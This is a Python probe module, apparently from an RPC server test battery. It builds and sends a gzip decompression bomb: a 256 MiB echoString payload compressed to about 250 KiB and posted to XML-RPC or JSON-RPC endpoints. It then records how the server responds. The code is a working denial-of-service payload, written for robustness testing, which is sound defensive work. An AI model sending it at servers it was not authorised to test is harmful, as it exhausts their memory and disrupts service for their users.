"""A gzip bomb where request bodies may be compressed (xmlrpc-gzip, jsonrpc-gzip): a valid echoString call
whose string is 256 MiB of 'A', compressed to about 250 KiB and sent with Content-Encoding: gzip. A server
that inflates it whole shows it in its memory; the answer is read for 10 s (at most 64 KiB of it)."""
from __future__ import annotations

import zlib

from rpcmatrix.battery import wire
from rpcmatrix.battery.target import Target

SECONDS = 10.0
INFLATED = 256 * 1024 * 1024
CHUNK = b"A" * (1024 * 1024)


def document(family: str) -> tuple[bytes, bytes]:
    if family == "xmlrpc":
        return (b'<?xml version="1.0"?><methodCall><methodName>echoString</methodName><params><param><value>'
                b"<string>", b"</string></value></param></params></methodCall>")
    return b'{"jsonrpc": "2.0", "method": "echoString", "id": 1, "params": ["', b'"]}'


def bomb(family: str) -> bytes:
    head, tail = document(family)
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: the gzip container
    out = [packer.compress(head)]
    for _ in range(INFLATED // len(CHUNK)):
        out.append(packer.compress(CHUNK))
    out.append(packer.compress(tail))
    out.append(packer.flush())
    return b"".join(out)


def run(target: Target) -> dict:
    body = bomb(target.family)
    head = wire.http_head(target.family, target.host, target.port, len(body), {"Content-Encoding": "gzip"})
    with wire.connect(target.host, target.port, timeout=SECONDS) as sock:
        stopped = wire.send_all(sock, head + body)
        during = target.served()
        seen = wire.read_answer(sock, SECONDS)
    answer = seen.excerpt() or (stopped or seen.state)
    return {"outcome": wire.judge(seen), "answer": f"{answer} (sent {len(body)} bytes)", "served_during": during}
